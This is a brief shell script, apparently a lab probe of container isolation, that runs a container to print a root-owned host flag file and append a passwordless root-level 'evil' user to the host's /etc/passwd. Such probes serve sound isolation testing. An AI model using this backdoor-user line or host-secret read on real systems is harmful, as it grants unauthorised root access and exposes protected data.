#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# A container reads a secret of the host's root and adds a user to the host. "$@" are the arm's flags.
minibox run --rm "$@" lab/box sh -c 'cat /host/root/flag; echo ran; echo "evil::0:0::/:/bin/sh" >>/host/etc/passwd'
